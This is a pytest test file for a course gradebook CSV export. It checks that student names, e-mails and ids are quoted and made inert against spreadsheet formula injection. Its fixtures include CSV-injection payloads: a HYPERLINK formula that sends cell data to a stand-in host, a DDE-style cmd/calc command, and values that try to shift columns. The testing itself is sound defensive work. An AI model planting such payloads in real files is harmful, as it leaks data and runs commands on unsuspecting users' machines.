"""grades.csv, as `make grades` writes it (nbgrader export through classroom.plugins.csv_export.SafeCsvExport), and the
rule every CSV of the course follows (classroom.csvsafe): quoted by the csv module, text a spreadsheet would evaluate
made inert (a formula, or a link that calls out, runs in no spreadsheet).

Student ids are refused at collect unless plain, so hostile text reaches the gradebook through names and e-mail
addresses (LTI imports, `nbgrader db student add`) or an id an instructor typed; it is put there with nbgrader's API.
"""
import csv
import datetime
import shutil
import sys
from pathlib import Path

import pytest
from nbgrader.api import Gradebook
from nbgrader.plugins.export import CsvExportPlugin

from classroom import csvsafe
from classroom.plugins.csv_export import COLUMNS, SafeCsvExport
from coursekit import forked_commands
from coursekit.trial_course import COURSE_ID
from coursekit.repository import ROOT

ASSIGNMENT = "score_gradient"
CELLS = {"values": 4.0, "no_loop": 2.0}
# What a spreadsheet app evaluates: a cell starting with one of these; some read the full-width forms so.
FORMULA = ("=", "+", "-", "@", "\t", "\r")
FULL_WIDTH = ("＝", "＋", "－", "＠")
PLAIN = {  # id: (first name, last name, e-mail, {cell: points} or None where nothing was handed in)
    "alice": ("Alice", "Ames", "alice@example.org", {"values": 4.0, "no_loop": 2.0}),
    "bob": ("Bob", "Brown", "bob@example.org", {"values": 1.5, "no_loop": 0.0}),
    "carol": ("Carol", "Cole", "", None),
}
HOSTILE = {
    "mallory": ('=HYPERLINK("http://evil.example/?"&A1,"click")', "+SUM(1,2)", "-2+3@example.org",
                {"values": 0.0, "no_loop": 0.0}),
    "trent": ("@cmd|' /C calc'!A0", "\tTabbed", "\rreturn@example.org", {"values": 4.0, "no_loop": 0.0}),
    "victor": ("Ann, Jr.", 'O"Neil\nthe second', "v,,,,21.0@example.org", {"values": 2.0, "no_loop": 2.0}),
    "wendy": ("Wen\rdy", "W\r\nW", "w\r,,,,21.0", {"values": 1.0, "no_loop": 0.0}),
    "c15eve,,,,21.0": ("Eve", "＝1+1", "eve@example.org", {"values": 0.0, "no_loop": 0.0}),
    '=HYPERLINK("x")': ("Zed", "Zulu", "@zed", None),
}


def make_gradebook(empty, path, people):
    """A gradebook at `path` (a copy of `empty`) with one assignment of two grade cells and `people`, scored as
    given."""
    shutil.copy(empty, path)
    url = f"sqlite:///{path}"
    with Gradebook(url, COURSE_ID) as gb:
        gb.add_assignment(ASSIGNMENT, duedate=datetime.datetime(2024, 5, 1, 12, 0))
        gb.add_notebook(ASSIGNMENT, ASSIGNMENT)
        for cell, points in CELLS.items():
            gb.add_grade_cell(cell, ASSIGNMENT, ASSIGNMENT, max_score=points, cell_type="code")
        for student_id, (first, last, email, scores) in people.items():
            gb.add_student(student_id, first_name=first, last_name=last, email=email)
            if scores is not None:
                gb.add_submission(ASSIGNMENT, student_id, timestamp="2024-05-01 10:00:00.000000 UTC")
                for cell, score in scores.items():
                    gb.find_grade(cell, ASSIGNMENT, ASSIGNMENT, student_id).manual_score = score
                gb.db.commit()
    return url


def export(plugin, url, dest):
    with Gradebook(url, COURSE_ID) as gb:
        plugin(to=str(dest)).export(gb)
    return dest


def inert(text):
    return "'" + text if text.startswith(FORMULA + FULL_WIDTH) else text


def assert_matches_the_gradebook(path, people):
    """Every row, read by header, is the gradebook's; every row has the header's width; no cell would compute."""
    with open(path, newline="", encoding="utf-8") as handle:
        table = list(csv.reader(handle))
    assert table[0] == list(COLUMNS) and all(len(row) == len(COLUMNS) for row in table)
    assert not [cell for row in table for cell in row if cell.startswith(FORMULA + FULL_WIDTH)]
    with open(path, newline="", encoding="utf-8") as handle:
        rows = {row["student_id"]: row for row in csv.DictReader(handle)}
    assert set(rows) == {inert(student_id) for student_id in people}
    for student_id, (first, last, email, scores) in people.items():
        row = rows[inert(student_id)]
        assert (row["first_name"], row["last_name"], row["email"]) == (inert(first), inert(last), inert(email))
        assert float(row["raw_score"]) == float(row["score"]) == sum((scores or {}).values())
        assert float(row["max_score"]) == sum(CELLS.values()) and row["assignment"] == ASSIGNMENT
        assert (row["timestamp"] == "") == (scores is None)


def test_plain_data_gives_nbgraders_own_file_but_for_line_ends(tmp_path, empty_gradebook):
    url = make_gradebook(empty_gradebook, tmp_path / "gradebook.db", PLAIN)
    ours = export(SafeCsvExport, url, tmp_path / "ours.csv").read_bytes()
    assert ours.count(b"\r\n") == len(PLAIN) + 1  # CRLF, RFC 4180's, so that a carriage return in a field is quoted
    assert ours.replace(b"\r\n", b"\n") == export(CsvExportPlugin, url, tmp_path / "nbgrader.csv").read_bytes()
    assert_matches_the_gradebook(tmp_path / "ours.csv", PLAIN)


def test_hostile_names_and_ids_neither_shift_columns_nor_compute(tmp_path, empty_gradebook):
    people = {**PLAIN, **HOSTILE}
    url = make_gradebook(empty_gradebook, tmp_path / "gradebook.db", people)
    assert_matches_the_gradebook(export(SafeCsvExport, url, tmp_path / "grades.csv"), people)


def test_the_export_honours_the_student_and_assignment_filters(tmp_path, empty_gradebook):
    url = make_gradebook(empty_gradebook, tmp_path / "gradebook.db", PLAIN)
    with Gradebook(url, COURSE_ID) as gb:
        SafeCsvExport(to=str(tmp_path / "bob.csv"), student=["bob"], assignment=[ASSIGNMENT]).export(gb)
        SafeCsvExport(to=str(tmp_path / "none.csv"), assignment=["another"]).export(gb)
    assert [row["student_id"] for row in csv.DictReader((tmp_path / "bob.csv").open())] == ["bob"]
    assert (tmp_path / "none.csv").read_bytes() == ",".join(COLUMNS).encode() + b"\r\n"


@pytest.mark.integration
def test_make_grades_writes_the_safe_file_through_nbgrader_config(tmp_path, empty_gradebook):
    """`nbgrader export --to grades.csv` (make grades) run in a course holding this repository's configuration."""
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    people = {**PLAIN, **HOSTILE}
    make_gradebook(empty_gradebook, tmp_path / "gradebook.db", people)
    result = forked_commands.run([str(Path(sys.executable).parent / "nbgrader"), "export", "--to", "grades.csv"],
                                 cwd=tmp_path, capture_output=True, text=True)
    assert result.returncode == 0, result.stderr[-3000:]
    assert "SafeCsvExport" in result.stderr
    assert_matches_the_gradebook(tmp_path / "grades.csv", people)


# ---- classroom.csvsafe -------------------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ['=HYPERLINK("http://x")', "+1", "-1+2", "@SUM(A1)", "\tx", "\rx", "＝1", "＋1",
                                  "－1", "＠x"])
def test_text_a_spreadsheet_would_evaluate_gets_a_leading_quote(text):
    assert csvsafe.text(text) == "'" + text == csvsafe.field(text)


def test_numbers_stay_numbers_and_plain_text_stays_as_it_is():
    assert [csvsafe.field(v) for v in (-1.5, 2, 0.0, None, "alice", "a=b", "x-1")] == \
        ["-1.5", "2", "0.0", "", "alice", "a=b", "x-1"]
    assert csvsafe.field(2.0, number=lambda x: f"{x:g}") == "2"


def test_a_written_row_reads_back_with_its_commas_quotes_and_line_breaks(tmp_path):
    row = ["c15eve,,,,21.0", 'say "hi"', "two\nlines", "=1+1", 3.0]
    csvsafe.write(tmp_path / "t.csv", [row])
    assert next(csv.reader((tmp_path / "t.csv").open(newline=""))) == \
        ["c15eve,,,,21.0", 'say "hi"', "two\nlines", "'=1+1", "3.0"]
